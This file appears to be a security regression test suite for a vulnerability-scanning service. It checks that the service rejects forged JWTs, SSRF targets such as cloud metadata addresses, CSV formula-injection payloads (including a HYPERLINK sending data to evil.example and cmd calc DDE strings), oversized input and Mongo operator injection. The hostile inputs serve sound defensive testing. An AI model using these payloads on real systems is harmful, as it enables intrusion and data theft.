import { createHmac, createPublicKey } from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { createLogger, createMongo, KafkaBus, Topics, type MongoHandle } from "@vulnscan/kit";
import { decodeJwt, decodeProtectedHeader, generateKeyPair, importJWK, SignJWT, type JWK } from "jose";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { startSystem, type RunningSystem } from "../../scripts/system.js";
import { parseCsv } from "../../services/findings/src/export/csv.js";
import { detection, publish } from "../../services/findings/test/support.js";
import { admin, Api } from "../support/api.js";
import { unique } from "../support/names.js";

/*
 * Security regressions against the real system (issue 14 item 5), each a named test: the JWT
 * negative corpus, SSRF vectors for scan targets, CSV formula injection in the findings export,
 * oversized and deep input, and Mongo operator injection treated as literal text. The scan
 * egress allowlist is 127.0.0.2/32 only (private targets allowed, as under `npm start`), so
 * every other form of loopback, and every metadata address, is outside it. The per-parameter
 * sweeps of the same families run at gateway level in test/security/unit/inputs.test.ts.
 */

const PASSWORD = "correct horse battery staple";
const ALLOWED = "127.0.0.2";

let system: RunningSystem;
let api: Api;
let prefix: string;
let authDb: MongoHandle;
let bus: KafkaBus;

interface Account {
  orgId: string;
  userId: string;
  email: string;
  token: string;
  api: Api;
}

async function account(plan = "enterprise"): Promise<Account> {
  const env = { MONGO_URL: inject("mongoUrl"), MONGO_DB: `${prefix}auth` };
  const org = admin(["create-org", "--name", unique("security"), "--plan", plan], env);
  const email = `${unique("sec")}@example.test`.toLowerCase();
  const user = admin(["create-user", "--org", org.id, "--email", email, "--password", PASSWORD], env);
  const res = await api.token(email, PASSWORD);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return { orgId: org.id, userId: user.id, email, token: res.body.access_token, api: api.withToken(res.body.access_token) };
}

async function eventually<T>(fn: () => Promise<T | undefined>, what: string, timeoutMs = 60_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const v = await fn();
    if (v !== undefined) return v;
    if (Date.now() > deadline) throw new Error(`${what}: not seen in time`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

function expectError(res: { status: number; body: unknown }, status: number, code?: string, field?: string) {
  expect(res.status, JSON.stringify(res.body)).toBe(status);
  expect(res.body).toMatchObject({ detail: expect.any(String), error_code: code ?? expect.any(String), ...(field ? { field } : {}) });
  // The spec's shape, plus `errors` (every field error of a 422 at once, the first repeated above).
  expect(Object.keys(res.body as object).every((k) => ["detail", "error_code", "field", "errors"].includes(k))).toBe(true);
  const errors = (res.body as { errors?: { field?: string; error_code: string }[] }).errors;
  if (errors) expect(errors[0]).toMatchObject({ error_code: (res.body as { error_code: string }).error_code, ...(field ? { field } : {}) });
}

beforeAll(async () => {
  prefix = `${unique("security")}_`;
  system = await startSystem({
    kafkaBrokers: inject("kafkaBrokers"),
    mongoUrl: inject("mongoUrl"),
    dbPrefix: prefix,
    topicPrefix: prefix,
    logDir: fs.mkdtempSync(path.join(os.tmpdir(), "vulnscan-security-")),
    logLevel: "warn",
    env: { SCAN_ALLOW_PRIVATE_TARGETS: "true", SCAN_ALLOWED_NETWORKS: `${ALLOWED}/32` },
  });
  api = new Api(system.gatewayUrl);
  authDb = createMongo(inject("mongoUrl"), `${prefix}auth`, "security-test");
  bus = new KafkaBus({ clientId: unique("security"), brokers: [inject("kafkaBrokers")], topicPrefix: prefix, logger: createLogger("security", "silent") });
}, 240_000);

afterAll(async () => {
  await bus?.close();
  await authDb?.close();
  await system?.stop();
});

describe("JWT negative corpus", () => {
  let victim: Account;
  let other: Account;
  let kid: string;
  let signingKey: Awaited<ReturnType<typeof importJWK>>;
  let publicJwk: JWK;
  const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString("base64url");
  const probe = (token: string) => api.withToken(token).get("/api/v1/scans");
  const claims = () => decodeJwt(victim.token) as Record<string, unknown>;
  const resign = (c: Record<string, unknown>, header: { alg: string; kid: string } = { alg: "ES256", kid }, key = signingKey) =>
    new SignJWT(c).setProtectedHeader(header).sign(key);
  const hs256 = (c: object, secret: string | Buffer) => {
    const input = `${b64({ alg: "HS256", typ: "JWT", kid })}.${b64(c)}`;
    return `${input}.${createHmac("sha256", secret).update(input).digest("base64url")}`;
  };

  beforeAll(async () => {
    [victim, other] = [await account(), await account()];
    expect((await probe(victim.token)).status).toBe(200);
    kid = decodeProtectedHeader(victim.token).kid!;
    // The auth service's real signing key, so every token below is well-formed but for the one flaw it tests.
    const doc = await authDb.db.collection<{ _id: string; private_jwk: JWK }>("signing_keys").findOne({ _id: kid });
    signingKey = await importJWK(doc!.private_jwk, "ES256");
    const { d: _private, ...pub } = doc!.private_jwk;
    publicJwk = pub;
  });

  it("alg none: an unsigned token is refused (401 INVALID_TOKEN)", async () => {
    for (const alg of ["none", "None", "NONE"]) {
      expectError(await probe(`${b64({ alg, typ: "JWT", kid })}.${b64(claims())}.`), 401, "INVALID_TOKEN");
    }
  });

  it("HS256 signed with the public key (algorithm confusion) is refused (401 INVALID_TOKEN)", async () => {
    const pem = createPublicKey({ key: publicJwk as never, format: "jwk" }).export({ type: "spki", format: "pem" });
    for (const secret of [pem, JSON.stringify(publicJwk), Buffer.from(publicJwk.x!, "base64url")]) {
      expectError(await probe(hs256(claims(), secret)), 401, "INVALID_TOKEN");
    }
  });

  it("wrong kid: an unknown key id, or the real kid on another key's signature, is refused (401 INVALID_TOKEN)", async () => {
    expectError(await probe(await resign(claims(), { alg: "ES256", kid: "kid_does_not_exist" })), 401, "INVALID_TOKEN");
    const foreign = await generateKeyPair("ES256");
    expectError(await probe(await resign(claims(), { alg: "ES256", kid }, foreign.privateKey)), 401, "INVALID_TOKEN");
    // Control: the same claims re-signed by the real key and kid are accepted.
    expect((await probe(await resign(claims()))).status).toBe(200);
  });

  it("expired: exp in the past is refused (401 TOKEN_EXPIRED)", async () => {
    const now = Math.floor(Date.now() / 1000);
    expectError(await probe(await resign({ ...claims(), iat: now - 3700, exp: now - 100 })), 401, "TOKEN_EXPIRED");
  });

  it("not yet valid: nbf in the future is refused (401 INVALID_TOKEN)", async () => {
    const now = Math.floor(Date.now() / 1000);
    expectError(await probe(await resign({ ...claims(), nbf: now + 600 })), 401, "INVALID_TOKEN");
  });

  it("tampered payload: another organization put in a signed token is refused (401 INVALID_TOKEN)", async () => {
    const [h, , s] = victim.token.split(".");
    expectError(await probe(`${h}.${b64({ ...claims(), org: other.orgId })}.${s}`), 401, "INVALID_TOKEN");
    expectError(await probe(`${h}.${b64({ ...claims(), exp: Math.floor(Date.now() / 1000) + 365 * 86400 })}.${s}`), 401, "INVALID_TOKEN");
  });

  it("a token of a deleted user is refused at once, cannot be refreshed, and the user cannot log in", async () => {
    // Users are removed with `npm run admin -- disable-user` (there is no hard delete: findings
    // history and API keys keep pointing at the user); its sessions and keys stop at once.
    const gone = await account();
    const key = await gone.api.post("/api/v1/auth/api-keys", { name: "ci", permissions: ["read:scans"] });
    expect(key.status).toBe(201);
    admin(["disable-user", "--org", gone.orgId, "--user", gone.userId], { MONGO_URL: inject("mongoUrl"), MONGO_DB: `${prefix}auth` });
    // Refused within seconds here, on a loaded test machine, including the operator command's
    // event; the sub-second p99 across replicas is measured by test/e2e/auth-view.test.ts.
    await eventually(async () => ((await probe(gone.token)).status === 401 ? true : undefined), "token refused", 5000);
    expectError(await probe(gone.token), 401);
    expectError(await api.withToken(gone.token).post("/api/v1/auth/refresh"), 401);
    expectError(await api.withApiKey(key.body.key).get("/api/v1/scans"), 401);
    expectError(await api.token(gone.email, PASSWORD), 401, "INVALID_CREDENTIALS");
  });
});

describe("SSRF: scan targets outside the allowlist", () => {
  let owner: Account;
  beforeAll(async () => {
    owner = await account();
  });

  const vectors: [string, string][] = [
    ["decimal IPv4 of 127.0.0.1", "2130706433"],
    ["octal IPv4", "0177.0.0.1"],
    ["hex IPv4 (dotted)", "0x7f.0.0.1"],
    ["hex IPv4 (one number)", "0x7f000001"],
    ["short IPv4", "127.1"],
    ["loopback itself", "127.0.0.1"],
    ["IPv6 loopback", "::1"],
    ["IPv4-mapped IPv6 (dotted)", "::ffff:127.0.0.1"],
    ["IPv4-mapped IPv6 (hex)", "::ffff:7f00:1"],
    ["NAT64 of 127.0.0.1", "64:ff9b::7f00:1"],
    ["NAT64 of the metadata address", "64:ff9b::a9fe:a9fe"],
    ["unspecified 0.0.0.0", "0.0.0.0"],
    ["unspecified ::", "::"],
    ["a range holding the allowed address and more", "127.0.0.0/30"],
    ["name resolving to loopback (localhost)", "localhost"],
    ["the machine's own name (resolves to loopback)", os.hostname()],
    ["name that does not resolve", "metadata.google.internal"],
    ["cloud metadata (AWS, GCP, Azure)", "169.254.169.254"],
    ["cloud metadata (AWS IPv6)", "fd00:ec2::254"],
    ["cloud metadata (ECS task)", "169.254.170.2"],
    ["cloud metadata (Alibaba)", "100.100.100.200"],
    ["private network", "10.0.0.1"],
  ];

  it.each(vectors)("refuses %s (%s) with 422 on target, for scans and schedules", async (_name, target) => {
    const scan = await owner.api.post("/api/v1/scans", { target, scan_type: "quick", ports: "9", authorized: true });
    expectError(scan, 422, "VALIDATION_ERROR", "target");
    const schedule = await owner.api.post("/api/v1/scans/schedules", { target, scan_type: "quick", ports: "9", frequency: "daily", hour: 1, timezone: "UTC" });
    expectError(schedule, 422, "VALIDATION_ERROR", "target");
  });

  it("accepts the allowlisted address itself (control)", async () => {
    const res = await owner.api.post("/api/v1/scans", { target: ALLOWED, scan_type: "quick", ports: "9", authorized: true });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    await owner.api.delete(`/api/v1/scans/${res.body.id}`);
  });
});

describe("CSV formula injection in the findings export", () => {
  // One payload per exported text field, each starting with a character a spreadsheet runs.
  const payloads = {
    title: '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    target: "+cmd|'/c calc'!A0",
    affected_component: "-2+3+cmd|'/c calc'!A0",
    tool: "@SUM(1+1)*cmd|'/c calc'!A0",
    template_id: "\t=1+1",
    cve_ids: "\r=1+1",
    cwe_ids: "=1+1",
    scan_id: "=scan_formula()",
    frameworks: "@framework",
  } as const;
  type Column = keyof typeof payloads;
  let row: Record<string, string>;

  beforeAll(async () => {
    const owner = await account();
    const d = detection(owner.orgId, {
      title: payloads.title,
      target: payloads.target,
      affectedComponent: payloads.affected_component,
      tool: payloads.tool,
      templateId: payloads.template_id,
      cveIds: [payloads.cve_ids],
      cweIds: [payloads.cwe_ids],
      scanId: payloads.scan_id,
      frameworks: [{ name: payloads.frameworks, controls: ["1.1"] }],
    });
    await publish(bus, Topics.findingsDetected, [d]);
    await eventually(async () => ((await owner.api.get("/api/v1/findings")).body.total > 0 ? true : undefined), "finding ingested");
    const res = await fetch(`${system.gatewayUrl}/api/v1/findings/export?format=csv`, { headers: { authorization: `Bearer ${owner.token}` } });
    expect(res.status).toBe(200);
    const [header, first] = parseCsv(await res.text());
    row = Object.fromEntries(header!.map((h, i) => [h, first![i]!]));
  });

  it.each(Object.keys(payloads) as Column[])("%s is exported with a leading quote, never as a formula", (column) => {
    const cell = row[column];
    expect(cell, `${column} is exported`).toBeDefined();
    expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
    expect(cell!.replace(/^'/, ""), `${column} keeps its text`).toContain(payloads[column].replace(/^[\t\r]/, "").slice(0, 4));
  });

  it("every cell of the row is safe", () => {
    for (const [column, cell] of Object.entries(row)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("oversized and deep input", () => {
  let owner: Account;
  const raw = (method: string, p: string, body: string, contentType = "application/json") =>
    fetch(`${system.gatewayUrl}${p}`, { method, headers: { authorization: `Bearer ${owner.token}`, "content-type": contentType }, body }).then(async (r) => ({
      status: r.status,
      body: await r.json(),
    }));
  beforeAll(async () => {
    owner = await account();
  });

  it("a body over the limit is 413 in the error shape", async () => {
    const res = await raw("POST", "/api/v1/scans", JSON.stringify({ target: "x".repeat(2 * 1024 * 1024), authorized: true }));
    expectError(res, 413);
  });

  it("deeply nested JSON is a 4xx, never a 500", async () => {
    for (const depth of [1000, 100_000]) {
      const res = await raw("POST", "/api/v1/scans", `{"target":${"[".repeat(depth)}${"]".repeat(depth)},"authorized":true}`);
      expect(res.status, `depth ${depth}`).toBeGreaterThanOrEqual(400);
      expect(res.status, `depth ${depth}`).toBeLessThan(500);
      expectError(res, res.status);
    }
  });

  it("huge numbers in query and body are 422 naming the field", async () => {
    for (const q of ["page=99999999999999999999", "page=1e400", "per_page=1e308", "page=-1", "per_page=NaN"]) {
      const res = await owner.api.get(`/api/v1/findings?${q}`);
      expectError(res, 422, "VALIDATION_ERROR", q.split("=")[0]);
    }
    const body = `{"target":"${ALLOWED}","frequency":"daily","hour":1e400,"timezone":"UTC"}`;
    expectError(await raw("POST", "/api/v1/scans/schedules", body), 422, "VALIDATION_ERROR");
  });

  it("arrays where one value is expected, and huge arrays, are 4xx", async () => {
    expectError(await owner.api.get("/api/v1/findings?severity=high&severity=low"), 422, "VALIDATION_ERROR", "severity");
    expectError(await owner.api.get("/api/v1/scans?page=1&page=2"), 422, "VALIDATION_ERROR", "page");
    const ids = Array.from({ length: 5000 }, (_, i) => `finding_${i}`);
    expectError(await owner.api.post("/api/v1/findings/bulk", { finding_ids: ids, update: { status: "resolved" } }), 422, "VALIDATION_ERROR");
  });
});

describe("Mongo operator injection is never a widened query", () => {
  let owner: Account;
  let findingId: string;
  beforeAll(async () => {
    owner = await account();
    await publish(bus, Topics.findingsDetected, [detection(owner.orgId, { scanId: "scan_injection", title: unique("Injection canary") })]);
    findingId = await eventually(async () => (await owner.api.get("/api/v1/findings")).body.items?.[0]?.id, "finding ingested");
    expect((await owner.api.post("/api/v1/scans", { target: ALLOWED, scan_type: "quick", ports: "9", authorized: true })).status).toBe(201);
  });

  it("operator syntax in a filter's name (`field[$ne]=`) is 422", async () => {
    for (const p of [
      "/api/v1/findings?status[$ne]=open",
      "/api/v1/findings?target[$regex]=.*",
      "/api/v1/scans?target[$ne]=x",
      "/api/v1/findings/stats?target[$gt]=",
    ]) {
      expectError(await owner.api.get(p), 422, "VALIDATION_ERROR");
    }
  });

  it("operator-looking filter values are literal text: nothing matches", async () => {
    const values = ['{"$ne":null}', "{$ne:null}", ".*", "$ne", "[$regex]", "' || '1'=='1"];
    for (const v of values) {
      const q = encodeURIComponent(v);
      for (const p of [
        `/api/v1/findings?target=${q}`,
        `/api/v1/findings?tool=${q}`,
        `/api/v1/findings?cve=${q}`,
        `/api/v1/findings?scan_id=${q}`,
        `/api/v1/scans?target=${q}`,
      ]) {
        const res = await owner.api.get(p);
        expect(res.status, p).toBe(200);
        expect(res.body.total, p).toBe(0);
      }
    }
    // Control: the unfiltered lists are not empty.
    expect((await owner.api.get("/api/v1/findings")).body.total).toBeGreaterThan(0);
    expect((await owner.api.get("/api/v1/scans")).body.total).toBeGreaterThan(0);
  });

  it("JSON bodies with `$` keys or operator objects are 422", async () => {
    const cases: [string, string, unknown][] = [
      ["PATCH", `/api/v1/findings/${findingId}`, { $set: { status: "resolved" } }],
      ["PATCH", `/api/v1/findings/${findingId}`, { status: { $ne: null } }],
      ["POST", "/api/v1/findings/bulk", { finding_ids: [{ $ne: null }], update: { status: "resolved" } }],
      ["POST", "/api/v1/findings/bulk", { finding_ids: [findingId], update: { status: "resolved", $where: "1" } }],
      ["POST", `/api/v1/findings/${findingId}/comments`, { text: { $gt: "" } }],
      ["POST", "/api/v1/scans", { target: { $ne: null }, authorized: true }],
      ["POST", "/api/v1/audit-requests", { framework: "soc2", title: "x", control_ids: [{ $ne: null }] }],
    ];
    for (const [method, p, body] of cases) expectError(await owner.api.request(method, p, body), 422, "VALIDATION_ERROR");
  });

  it("an operator-looking id in a bulk update matches nothing, and changes nothing", async () => {
    const res = await owner.api.post("/api/v1/findings/bulk", { finding_ids: ['{"$ne":null}', "$ne"], update: { status: "resolved" } });
    expect(res.status).toBe(200);
    expect(res.body.updated).toBe(0);
    expect((await owner.api.get(`/api/v1/findings/${findingId}`)).body.status).toBe("open");
  });

  it("operator-looking text is stored as text", async () => {
    const res = await owner.api.post(`/api/v1/findings/${findingId}/comments`, { text: '{"$gt": ""}' });
    expect(res.status).toBe(201);
    expect(res.body.text).toBe('{"$gt": ""}');
    expectError(await owner.api.get(`/api/v1/findings/${encodeURIComponent('{"$ne":null}')}`), 404, "NOT_FOUND");
  });
});
